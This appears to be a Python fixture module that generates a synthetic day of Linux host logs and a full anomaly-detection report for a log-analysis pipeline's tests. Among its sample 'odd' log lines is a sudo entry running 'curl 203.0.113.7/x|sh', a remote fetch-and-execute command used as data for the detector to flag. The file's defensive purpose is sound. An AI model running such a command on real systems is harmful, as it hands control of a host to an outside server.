"""A made-up day of three hosts with two incidents, as a report would get it; the same for the same seed."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import numpy as np
from numpy.typing import NDArray

from logad_pipeline.evaluation.metrics import evaluate
from logad_pipeline.reporting.data import LineAccount, ReportData, ReportLine, ReportWindow
from logad_pipeline.reporting.swimlane import Cell, Lane, Swimlane

HOSTS = ("web-1", "web-2", "web-3", "db-1", "mail-1", "bastion.example.org")
QUIET = (
    "sshd[1412]: Accepted publickey for deploy from 10.0.4.17 port 51244 ssh2: ED25519 SHA256:k1",
    "CRON[2210]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
    "systemd[1]: Started Session 4410 of user deploy.",
    "postfix/smtpd[3301]: connect from mx.example.org[192.0.2.44]",
    'apache2: 10.0.4.9 - - "GET /health HTTP/1.1" 200 12 "-" "kube-probe/1.31"',
)
ODD = (
    "sshd[1977]: Failed password for invalid user admin from 203.0.113.7 port 40022 ssh2",
    "sudo:   www-data : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c 'curl 203.0.113.7/x|sh'",
    "kernel: EXT4-fs error (device sda1): ext4_find_entry:1455: inode #131074: comm nginx: reading directory",
)


def example_window(rank: int, score: float, *, lines: int = 10, label: bool | None = None) -> ReportWindow:
    """A window of ``lines`` quiet lines with the odd ones in the middle."""
    rng = np.random.default_rng(rank)
    begin = datetime(2026, 5, 4, 3, 12, 7, tzinfo=UTC) + timedelta(minutes=47 * (rank - 1))
    host = HOSTS[(2 + rank) % len(HOSTS)]
    told = []
    for place in range(lines):
        odd = score >= 0.5 and place in (lines // 2, lines // 2 + 1)
        text = ODD[(rank + place) % len(ODD)] if odd else QUIET[(rank + place) % len(QUIET)]
        stamp = begin + timedelta(seconds=4 * place)
        surprise = float(rng.gamma(3, 0.2)) + (4.0 * score if odd else 0.0)
        told.append(ReportLine(12_000 + 613 * rank + place, f"{stamp:%b %d %H:%M:%S} {host} {text}", surprise))
    detectors = {
        "surprise": score,
        "distance": score * 0.93,
        "neighbours": score * 0.61,
        "next_event": score * 0.88,
        "counts": 0.12,
        "autoencoder": score * 0.5,
    }
    return ReportWindow(
        rank=rank,
        window_id=f"2026-05-04/auth/{rank:05d}",
        source="auth.log-20260504.gz",
        group=host,
        first_time=begin,
        last_time=begin + timedelta(seconds=4 * lines),
        lines=tuple(told),
        score=score,
        risk="high" if score >= 0.85 else "medium" if score >= 0.5 else "low",
        is_anomaly=score >= 0.5,
        detectors=detectors,
        label=label,
        repeats=1 + 13 * (rank % 3 == 0),
    )


def swimlane_of(names: Sequence[str], scores: NDArray[np.float64], start: datetime) -> Swimlane:
    """Lanes of one-hour cells with these highest scores, shape (names, hours), NaN for no window."""
    lanes = []
    for name, row in zip(names, scores, strict=True):
        known = np.flatnonzero(~np.isnan(row)).tolist()
        lanes.append(Lane(name, {hour: Cell(float(row[hour]), int(row[hour] >= 0.5)) for hour in known}))
    alarms = sum(lane.alarms for lane in lanes)
    ranked = sorted(lanes, key=lambda lane: (-lane.score, lane.name))
    return Swimlane(start, 1, scores.shape[1], tuple(ranked), 20 * scores.size, alarms, 0)


def example_report(seed: int = 7) -> ReportData:
    """A full report: labels, embeddings, training and thirty days."""
    rng = np.random.default_rng(seed)
    labels = rng.random(4321) < 0.006
    scores = np.clip(np.where(labels, rng.beta(4, 2, 4321), rng.beta(2, 11, 4321)), 0.0, 0.99)
    scores[int(np.argmax(scores))] = 0.993
    centres = rng.normal(0, 30, (7, 2))
    points = centres[rng.integers(0, 7, 1500)] + rng.normal(0, 4, (1500, 2))
    odd = np.zeros(1500, np.bool_)
    odd[:26] = True
    points[:26] = np.array([55.0, -48.0]) + rng.normal(0, 3, (26, 2))
    hours = np.round(0.7 * rng.beta(2, 8, (len(HOSTS), 24)), 3)
    hours[2, 4], hours[5, 3], hours[0, 17] = 0.91, 0.62, 0.55
    hours[4, :6] = np.nan
    steps = np.arange(0, 1001, 20, dtype=np.float64)
    held_out = np.where(steps % 100 == 0, 1.1 + 5.2 * np.exp(-steps / 190) + 1e-7 * steps**2, np.nan)
    days = [
        (datetime(2026, 4, 5, tzinfo=UTC).date() + timedelta(days=day), 4200 + 9 * day, int(rng.poisson(17)))
        for day in range(30)
    ]
    days[-1] = (days[-1][0], 4321, int((scores >= 0.5).sum()))
    peaks = (0.993, 0.971, 0.94, 0.88, 0.81, 0.77, 0.69, 0.58, 0.52, 0.47)
    top = tuple(
        example_window(rank, score, label=score > 0.6, lines=60 if rank == 2 else 10)
        for rank, score in enumerate(peaks, 1)
    )
    for window in top:
        assert window.first_time is not None
        hours[HOSTS.index(window.group), window.first_time.hour] = window.score
    return ReportData(
        title="Linux hosts",
        span="2026-05-04",
        generated_at=datetime(2026, 5, 5, 0, 20, tzinfo=UTC),
        windows=len(scores),
        alerts=int((scores >= 0.5).sum()),
        promised_rate=0.005,
        account=LineAccount(43_214, 42_980, 211, 23, {"no time found": 19, "not UTF-8, no header": 4}),
        scores=scores,
        labels=labels,
        evaluation=evaluate(scores, labels, 0.5, seed=seed, resamples=200),
        top=top,
        embeddings_2d=points,
        point_is_alert=odd,
        point_label=odd & (np.arange(1500) % 3 > 0),
        swimlane=swimlane_of(HOSTS, hours, datetime(2026, 5, 4, tzinfo=UTC)),
        training=(steps, 1.0 + 5.4 * np.exp(-steps / 170) + rng.normal(0, 0.06, len(steps)), held_out),
        by_day=days,
        model={
            "version": "logad-anomaly 14 (champion)",
            "weights": "pretrained hub",
            "mask version": "3",
            "trained on": "2026-04-05 to 2026-04-27, 23 days, 96,120 windows",
            "parameters": "11,171,074",
        },
        settings={"window": "10 lines, fixed", "alert budget": "0.005", "seed": "7", "mask share": "0.15"},
    )


def empty_report() -> ReportData:
    """A day on which nothing came."""
    return ReportData(
        title="Linux hosts",
        span="2026-05-05",
        generated_at=datetime(2026, 5, 6, 0, 20, tzinfo=UTC),
        windows=0,
        alerts=0,
        promised_rate=0.005,
    )


def unlabelled_report() -> ReportData:
    """The full report without labels."""
    return replace(example_report(), labels=None, evaluation=None, point_label=None)
